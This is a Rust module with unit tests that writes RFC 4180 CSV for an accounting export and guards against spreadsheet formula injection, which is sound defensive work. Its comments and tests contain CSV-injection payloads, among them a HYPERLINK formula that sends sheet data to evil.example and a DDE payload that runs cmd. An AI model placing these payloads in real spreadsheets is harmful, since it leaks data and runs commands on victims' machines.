//! CSV for the export: RFC 4180 fields, and text cells a spreadsheet cannot run as formulas.
//!
//! The export's journals are opened in Excel, LibreOffice or Google Sheets by accountants.
//! A spreadsheet treats a cell that begins with `=`, `+`, `-` or `@` as a formula (and TAB or
//! CR as a way to smuggle one past a first-character check), so a customer named
//! `=HYPERLINK("http://evil.example/?"&A1,"x")` would become a link that sends the sheet to a
//! stranger. Such text cells are neutralised as OWASP's "CSV Injection" page recommends: the
//! cell gets a leading `'` (which spreadsheets show as text, not a formula) and is quoted.
//!
//! Whether a cell is neutralised depends on its column's [`Kind`], never on its content:
//! amounts are numbers the program formatted itself (a credit note's `-12.60` must stay a
//! number a spreadsheet can sum), every other column may hold text that came from outside.

/// What a column holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Any text, possibly from the input: neutralised if it could start a formula.
    Text,
    /// A number this program formatted (`-12.60`, `19`, `3`): written as it is.
    Number,
}

/// One column of a CSV file: its header and what its cells hold.
#[derive(Clone, Copy, Debug)]
pub struct Column {
    pub name: &'static str,
    pub kind: Kind,
}

/// A text column.
pub const fn text(name: &'static str) -> Column {
    Column { name, kind: Kind::Text }
}

/// A number column.
pub const fn number(name: &'static str) -> Column {
    Column { name, kind: Kind::Number }
}

/// Rows of a CSV file with fixed columns, in memory until [`Rows::take`]n: lines end in `\n`,
/// fields are quoted only when they must be (or when neutralised).
#[derive(Debug)]
pub struct Rows {
    columns: &'static [Column],
    bytes: Vec<u8>,
}

impl Rows {
    /// A file with `columns`; its header line is the first row.
    pub fn new(columns: &'static [Column]) -> Rows {
        let mut rows = Rows { columns, bytes: Vec::new() };
        rows.row(columns.iter().map(|c| c.name));
        rows
    }

    /// Appends one row: a value for each column, in order.
    ///
    /// # Panics
    /// If the number of values is not the number of columns (a bug in the caller).
    pub fn row<S: AsRef<str>>(&mut self, values: impl IntoIterator<Item = S>) {
        let mut count = 0;
        for value in values {
            let column = self.columns.get(count).expect("no more values than columns");
            if count > 0 {
                self.bytes.push(b',');
            }
            cell(&mut self.bytes, value.as_ref(), column.kind);
            count += 1;
        }
        assert_eq!(count, self.columns.len(), "one value per column");
        self.bytes.push(b'\n');
    }

    /// The rows written since the last call.
    pub fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.bytes)
    }
}

/// Appends `value` as one CSV field of a column of `kind`.
///
/// Text beginning with `=`, `+`, `-`, `@`, TAB or CR is neutralised: prefixed with `'` and
/// quoted. Any field holding a comma, a double quote, CR or LF is quoted, with its double
/// quotes doubled (RFC 4180).
pub fn cell(out: &mut Vec<u8>, value: &str, kind: Kind) {
    let neutralise = kind == Kind::Text && value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let quote = neutralise || value.contains([',', '"', '\r', '\n']);
    if !quote {
        out.extend_from_slice(value.as_bytes());
        return;
    }
    out.push(b'"');
    if neutralise {
        out.push(b'\'');
    }
    for part in value.split_inclusive('"') {
        out.extend_from_slice(part.as_bytes());
        if part.ends_with('"') {
            out.push(b'"');
        }
    }
    out.push(b'"');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text_cell(value: &str) -> String {
        let mut out = Vec::new();
        cell(&mut out, value, Kind::Text);
        String::from_utf8(out).unwrap()
    }

    fn number_cell(value: &str) -> String {
        let mut out = Vec::new();
        cell(&mut out, value, Kind::Number);
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn the_issues_payloads_are_neutralised_in_text_cells() {
        assert_eq!(text_cell(r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#), r#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#);
        assert_eq!(text_cell("+cmd|' /C calc'!A0"), r#""'+cmd|' /C calc'!A0""#);
        assert_eq!(text_cell("-2+3"), r#""'-2+3""#);
        assert_eq!(text_cell("@SUM(1+1)"), r#""'@SUM(1+1)""#);
        assert_eq!(text_cell("\t=1+1"), "\"'\t=1+1\"");
        assert_eq!(text_cell("\r=1+1"), "\"'\r=1+1\"");
    }

    #[test]
    fn other_text_is_written_as_rfc_4180_asks() {
        assert_eq!(text_cell("Jürgen Müller"), "Jürgen Müller");
        assert_eq!(text_cell(""), "");
        assert_eq!(text_cell("a=b"), "a=b");
        assert_eq!(text_cell("KL-INV-2026-000001 KL-CN-2026-000001"), "KL-INV-2026-000001 KL-CN-2026-000001");
        assert_eq!(text_cell("Acme, Inc."), "\"Acme, Inc.\"");
        assert_eq!(text_cell("the \"best\" shop"), "\"the \"\"best\"\" shop\"");
        assert_eq!(text_cell("\""), "\"\"\"\"");
        assert_eq!(text_cell("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn numbers_stay_numbers_whatever_their_sign() {
        assert_eq!(number_cell("-12.60"), "-12.60");
        assert_eq!(number_cell("1980"), "1980");
        assert_eq!(number_cell("+1"), "+1");
        // The same value in a text column is text, and neutralised.
        assert_eq!(text_cell("-12.60"), "\"'-12.60\"");
    }

    #[test]
    fn rows_have_a_header_and_one_field_per_column() {
        const COLUMNS: &[Column] = &[text("name"), number("net")];
        let mut rows = Rows::new(COLUMNS);
        rows.row(["=1+1", "-12.60"]);
        rows.row([String::from("Acme, Inc."), String::from("0.00")]);
        assert_eq!(String::from_utf8(rows.take()).unwrap(), "name,net\n\"'=1+1\",-12.60\n\"Acme, Inc.\",0.00\n");
        assert!(rows.take().is_empty(), "taken rows are not taken twice");
        // What a CSV reader makes of it: the text as written, behind the quote.
        let mut written = Rows::new(COLUMNS);
        written.row([r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#, "-1"]);
        let bytes = written.take();
        let mut reader = csv::Reader::from_reader(&bytes[..]);
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[0], r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#);
        assert_eq!(&record[1], "-1");
    }

    #[test]
    #[should_panic(expected = "one value per column")]
    fn a_short_row_is_a_bug() {
        const COLUMNS: &[Column] = &[text("a"), text("b")];
        Rows::new(COLUMNS).row(["x"]);
    }
}
